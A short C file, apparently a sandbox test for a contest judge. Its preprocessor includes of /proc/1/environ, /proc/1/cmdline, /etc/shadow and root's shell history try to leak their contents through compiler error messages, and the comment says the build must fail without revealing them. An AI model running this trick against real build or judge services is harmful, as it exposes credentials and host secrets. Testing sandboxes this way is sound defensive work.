/* Attack on the build: make the compiler show what arena or the host keeps, in its error messages
 * (which arena shows the team): the environment and command line of the sandbox helper (PID 1) and of
 * its parent, the host's shadow file, the organiser's home. The build must fail without any of it. */
#if __has_include("/proc/1/environ")
#include "/proc/1/environ"
#endif
#if __has_include("/proc/1/cmdline")
#include "/proc/1/cmdline"
#endif
#if __has_include("/proc/1/fd/0")
#include "/proc/1/fd/0"
#endif
#if __has_include("/etc/shadow")
#include "/etc/shadow"
#endif
#if __has_include("/root/.bash_history")
#include "/root/.bash_history"
#endif
int main(void) { return 0; }
